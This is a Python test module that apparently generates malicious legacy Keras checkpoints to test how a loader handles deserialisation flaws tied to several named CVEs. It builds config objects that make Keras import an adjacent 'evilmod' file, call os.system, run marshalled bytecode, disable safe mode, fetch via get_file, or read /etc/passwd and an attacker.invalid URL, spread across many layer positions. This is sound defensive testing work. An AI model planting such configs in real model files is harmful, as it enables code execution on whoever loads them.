"""Objects in a config that make Keras import, call, open or unpickle what a file names.

Keras's deserialisers take a dictionary with `module`, `class_name` and `registered_name` in any place where a value
may stand. Each object below is put into each place of a layer, and the layer into each place of a model.
"""

from __future__ import annotations

import base64
import json
import marshal
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import numpy as np
from conftest import dense_layer, sequential, write_checkpoint

from attacks.attack import HARMLESS, Attack, Made

Json = dict[str, Any]
MODULE = "evilmod"
# Beside the checkpoint, so that whoever imports what the file names runs it.
EVIL = (
    "from pathlib import Path\nPath(__file__).with_name('PWNED').write_text('ran')\ndef run(*a, **k):\n    return a\n"
)
BYTECODE = base64.b64encode(marshal.dumps((lambda x: __import__("os").system("touch PWNED") or x).__code__)).decode()
ELSEWHERE = "/etc/passwd"

CLASS = {"module": MODULE, "class_name": "x", "registered_name": "x", "config": {}}
OBJECTS: dict[str, tuple[str, Any]] = {
    "a class of a module beside the file": ("CVE-2025-1550", CLASS),
    "a function of a module beside the file": (
        "CVE-2025-1550",
        {"module": MODULE, "class_name": "function", "config": "run", "registered_name": "run"},
    ),
    "a Keras 2.2 array that is a class too": (
        "tf-keras: `class_and_config_for_serialized_keras_object` imports `module`",
        {"type": "ndarray", "value": 0.0, **CLASS},
    ),
    "get_file of keras.utils": (
        "CVE-2025-8747",
        {"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "function"},
    ),
    "a module of Keras that turns safe mode off": (
        "CVE-2025-9906",
        {
            "module": "keras.config",
            "class_name": "function",
            "config": "enable_unsafe_deserialization",
            "registered_name": "function",
        },
    ),
    "a function of the standard library": (
        "CVE-2025-1550",
        {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"},
    ),
    "bytecode": ("CVE-2024-3660", {"class_name": "__lambda__", "config": {"value": BYTECODE}, "module": "builtins"}),
    "a type specification": (
        "tf-keras: `__typespec__` looks up any class of tf",
        {"class_name": "__typespec__", "spec_name": "TensorSpec", "module": MODULE, "config": [[1], "float32"]},
    ),
    "a SavedModel type specification": (
        "tf-keras: `TypeSpec` of legacy json_utils",
        {"class_name": "TypeSpec", "type_spec": f"{MODULE}.Spec", "serialized": []},
    ),
    "a tensor around a class": (
        "CVE-2025-1550",
        {"class_name": "__tensor__", "config": {"value": CLASS, "dtype": "float32"}},
    ),
    "a path": ("CVE-2025-12058", ELSEWHERE),
    "a URL": ("CVE-2025-12058", "gs://attacker.invalid/x"),
}
# Where a value of a layer may hold an object; `{}` stands for it.
PLACES: dict[str, Callable[[Any], Json]] = {
    "initializer": lambda value: {"bias_initializer": value},
    "value of an initializer": lambda value: {
        "bias_initializer": {"class_name": "Constant", "config": {"value": value}}
    },
    "regularizer": lambda value: {"kernel_regularizer": value},
    "value of a regularizer": lambda value: {"kernel_regularizer": {"class_name": "L1L2", "config": {"l1": value}}},
    "constraint": lambda value: {"kernel_constraint": value},
    "value of a constraint": lambda value: {
        "kernel_constraint": {"class_name": "MaxNorm", "config": {"max_value": value, "axis": 0}}
    },
    "activation": lambda value: {"activation": value},
    "dtype policy": lambda value: {"dtype": {"class_name": "Policy", "config": {"name": value}}},
    "dtype": lambda value: {"dtype": value},
    "whether it is trained": lambda value: {"trainable": value},
    "a key of its own": lambda value: {"build_config": value},
    "units": lambda value: {"units": value},
}
Position = Callable[[Json], tuple[Json, dict[str, dict[str, np.ndarray]]]]


def _kernel(prefix: str) -> dict[str, np.ndarray]:
    return {f"{prefix}kernel:0": np.ones((4, 3), "float32"), f"{prefix}bias:0": np.zeros(3, "float32")}


def _gates(prefix: str) -> dict[str, np.ndarray]:
    shapes = {"kernel": (4, 12), "recurrent_kernel": (3, 12), "bias": (12,)}
    return {f"{prefix}{name}:0": np.ones(shape, "float32") for name, shape in shapes.items()}


def top(change: Json) -> Any:
    return sequential(dense_layer(batch_input_shape=[None, 4], **change)), {"dense": _kernel("dense/")}


def nested(change: Json) -> Any:
    inner = sequential(dense_layer(batch_input_shape=[None, 4], **change), name="inner")
    return sequential(inner), {"inner": _kernel("dense/")}


def wrapped(change: Json) -> Any:
    config = {"name": "td", "batch_input_shape": [None, 5, 4], "layer": dense_layer(**change)}
    return sequential({"class_name": "TimeDistributed", "config": config}), {"td": _kernel("td/")}


def both_ways(change: Json) -> Any:
    lstm = {"class_name": "LSTM", "config": {"name": "lstm", "units": 3, "return_sequences": False, **change}}
    config = {"name": "bi", "batch_input_shape": [None, 5, 4], "merge_mode": "concat", "layer": lstm}
    weights = {**_gates("bi/forward_lstm/lstm_cell/"), **_gates("bi/backward_lstm/lstm_cell/")}
    return sequential({"class_name": "Bidirectional", "config": config}), {"bi": weights}


def cell(change: Json) -> Any:
    inner = {"class_name": "LSTMCell", "config": {"name": "lstm_cell", "units": 3, **change}}
    config = {"name": "rnn", "batch_input_shape": [None, 5, 4], "cell": inner}
    return sequential({"class_name": "RNN", "config": config}), {"rnn": _gates("rnn/lstm_cell/")}


POSITIONS: dict[str, Position] = {
    "at the top": top,
    "in a nested model": nested,
    "in TimeDistributed": wrapped,
    "in Bidirectional": both_ways,
    "in a cell": cell,
}


def checkpoint(folder: Path, config: Json, weights: Any, training: Json | None = None) -> Path:
    """The checkpoint, and beside it the module that its config names."""
    import h5py

    (folder / f"{MODULE}.py").write_text(EVIL, encoding="utf-8")
    path = write_checkpoint(folder / "old.h5", config, weights)
    if training is not None:
        with h5py.File(path, "r+") as file:
            file.attrs["training_config"] = json.dumps(training)
    return path


def _attack(name: str, stands_for: str, config: Json, weights: Any, **more: Any) -> Attack:
    return Attack(name, stands_for, lambda folder: Made(checkpoint(folder, config, weights)), **more)


# The one object for every other position.
FIRST = "a class of a module beside the file"
TRACES = (MODULE, ELSEWHERE, "attacker", "get_file", "enable_unsafe", "system", BYTECODE[:40], "TypeSpec", "typespec")


def _layers() -> Iterator[Attack]:
    for what, (stands_for, value) in OBJECTS.items():
        for place, change in PLACES.items():
            for where, position in POSITIONS.items():
                if where == "at the top" or what == FIRST:
                    yield _attack(
                        f"{what} as {place} {where}",
                        stands_for,
                        *position(change(value)),
                        error=HARMLESS,
                        traces=TRACES,
                    )


ATTACKS = list(_layers())
